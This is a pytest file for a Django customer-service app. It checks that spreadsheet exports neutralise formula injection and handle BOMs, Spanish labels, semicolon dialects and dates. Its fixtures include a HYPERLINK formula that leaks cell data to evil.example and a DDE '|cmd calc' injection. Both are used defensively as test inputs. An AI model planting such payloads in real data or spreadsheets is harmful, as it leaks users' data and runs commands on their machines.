"""Issue 11, finding 3: every CSV/XLSX download goes through core.spreadsheets, which
neutralises formulas typed by customers, writes a BOM, uses column labels, offers the
Colombian-Excel variant (; and decimal commas) and real dates in XLSX."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import COMMA_DIALECT, SEMICOLON_DIALECT, CsvWriter, neutralise, xlsx_value
from customers.models import Customer
from dashboards.exports import tables_csv, tables_xlsx
from dashboards.reports import ReportTable
from surveys.models import SurveySource
from tests.customers.factories import CustomerFactory
from tests.pqr.factories import TeamFactory, make_pqr
from tests.surveys.factories import SurveyResponseFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver factura")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def _body(response) -> str:
    raw = response.getvalue() if response.streaming else response.content
    text = raw.decode("utf-8")
    assert text.startswith("\ufeff"), "the BOM makes Excel read UTF-8"
    return text[1:]


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _assert_no_live_formula(rows: list[list]) -> None:
    for row in rows:
        for cell in row:
            if isinstance(cell, str):
                assert not cell.startswith(tuple(TRIGGERS)), cell


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_text_starting_with_a_formula_trigger_gets_a_leading_quote(trigger):
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"
    assert CsvWriter().line([f"{trigger}cmd"]).strip('\r\n"') == f"'{trigger}cmd"


def test_numbers_and_plain_text_are_left_alone():
    assert CsvWriter().line([-5, 2.5, "Ñandú", None]) == "-5,2.5,Ñandú,\r\n"
    assert xlsx_value(-5) == -5
    assert xlsx_value("Peñalosa") == "Peñalosa"


def test_customer_list_csv_neutralises_names_and_uses_labels(supervisor_client):
    CustomerFactory(full_name=FORMULA, city="-2+3")
    CustomerFactory(full_name="Ñandú Peñalosa")
    response = supervisor_client.get(reverse("customers:list"), {"formato": "csv"})
    header, *rows = _cells(_body(response))
    assert "full_name" not in header
    assert "Nombre o razón social" in header
    names = [row[header.index("Nombre o razón social")] for row in rows]
    assert "'" + FORMULA in names
    assert "Ñandú Peñalosa" in names
    assert "'-2+3" in [row[header.index("Ciudad o municipio")] for row in rows]
    _assert_no_live_formula(rows)


def test_customer_list_csv_for_colombian_excel_is_semicolon_separated(supervisor_client):
    CustomerFactory(full_name="Ñandú Peñalosa; hijos")
    response = supervisor_client.get(
        reverse("customers:list"), {"formato": "csv", "sep": "semicolon"}
    )
    header, row = _cells(_body(response), delimiter=";")
    assert len(header) == len(row) == 7
    assert row[header.index("Nombre o razón social")] == "Ñandú Peñalosa; hijos"


def test_holder_export_csv_neutralises_every_value_and_labels_fields(admin_client_role):
    customer = CustomerFactory(full_name=FORMULA, address="@SUM(1+1)*cmd|' /C calc'!A0")
    make_pqr(customer=customer, description="+57 dice que =1+1")
    response = admin_client_role.get(reverse("customers:export", args=[customer.pk, "csv"]))
    header, *rows = _cells(_body(response))
    assert header == ["Sección", "Registro", "Dato", "Contenido"]
    fields = {(row[0], row[2]): row[3] for row in rows}
    assert fields[("Cliente", "Nombre o razón social")] == "'" + FORMULA
    assert fields[("Cliente", "Dirección")].startswith("'@SUM")
    assert "full_name" not in {row[2] for row in rows}
    _assert_no_live_formula(rows)


def test_survey_csv_neutralises_the_anonymous_comment(supervisor_client):
    SurveyResponseFactory(comment=FORMULA)
    SurveyResponseFactory(comment="Ñandú Peñalosa atendió muy bien")
    response = supervisor_client.get(reverse("surveys:results_csv"))
    header, *rows = _cells(_body(response))
    comments = [row[header.index("Comentario")] for row in rows]
    assert "'" + FORMULA in comments
    assert "Ñandú Peñalosa atendió muy bien" in comments
    assert rows[0][header.index("Origen")] == str(SurveySource.GENERAL.label)
    _assert_no_live_formula(rows)


def test_survey_csv_for_colombian_excel(supervisor_client):
    SurveyResponseFactory(comment="bien, gracias")
    response = supervisor_client.get(reverse("surveys:results_csv"), {"sep": "semicolon"})
    header, row = _cells(_body(response), delimiter=";")
    assert row[header.index("Comentario")] == "bien, gracias"
    assert len(row) == len(header)


def test_report_csv_and_xlsx_neutralise_team_names(supervisor_client):
    make_pqr(team=TeamFactory(name=FORMULA))
    csv_response = supervisor_client.get(reverse("dashboards:report_pqrs"), {"format": "csv"})
    rows = _cells(_body(csv_response))
    assert [row[0] for row in rows if FORMULA in "".join(row)][:1] == ["'" + FORMULA]
    _assert_no_live_formula(rows)
    xlsx = supervisor_client.get(reverse("dashboards:report_pqrs"), {"format": "xlsx"})
    workbook = load_workbook(io.BytesIO(xlsx.content))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"], "no cell is a formula"
    assert "'" + FORMULA in {c.value for c in cells}


def test_report_csv_for_colombian_excel_has_decimal_commas():
    table = ReportTable("t", "Tabla", ["Tipo", "Días"], [["Petición", 12.8], ["Queja", 3]])
    lines = _cells(tables_csv([table], ["Informe"], SEMICOLON_DIALECT), ";")
    assert ["Petición", "12,8"] in lines
    assert ["Queja", "3"] in lines
    comma_lines = _cells(tables_csv([table], ["Informe"], COMMA_DIALECT))
    assert ["Petición", "12.8"] in comma_lines


def test_xlsx_dates_are_date_cells_not_text(supervisor_client):
    table = ReportTable("t", "Tabla", ["Radicado", "Recibida"], [["PQR-1", date(2026, 5, 4)]])
    sheet = load_workbook(io.BytesIO(tables_xlsx([table], ["Informe"])))["Tabla"]
    assert sheet["B2"].is_date
    assert sheet["B2"].value.date() == date(2026, 5, 4)


def test_information_report_xlsx_received_column_is_a_date(supervisor_client):
    make_pqr(type_code="peticion_informacion")
    response = supervisor_client.get(reverse("dashboards:report_information"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content))["Respuesta por solicitud"]
    assert sheet["B1"].value == "Recibida"
    assert sheet["B2"].is_date


def test_holder_export_keeps_spanish_letters_with_bom(admin_client_role):
    customer = CustomerFactory(full_name="Ñandú Peñalosa")
    response = admin_client_role.get(reverse("customers:export", args=[customer.pk, "csv"]))
    assert "Ñandú Peñalosa" in _body(response)
    assert Customer.objects.filter(full_name="Ñandú Peñalosa").exists()


def test_no_module_writes_csv_or_xlsx_around_the_safe_writer():
    """A new export that imports csv or openpyxl directly would skip the neutralising."""
    root = Path(__file__).resolve().parents[2]
    allowed = {"core/spreadsheets.py", "dashboards/exports.py"}
    offenders = []
    for app in ("core", "customers", "pqr", "sla", "surveys", "dashboards"):
        for path in (root / app).rglob("*.py"):
            name = path.relative_to(root).as_posix()
            text = path.read_text()
            direct = re.search(r"^\s*(import csv|from csv |.*openpyxl)", text, re.M)
            if name not in allowed and direct:
                offenders.append(name)
            if name != "core/spreadsheets.py" and "csv.writer(" in text:
                offenders.append(name)
    assert offenders == []
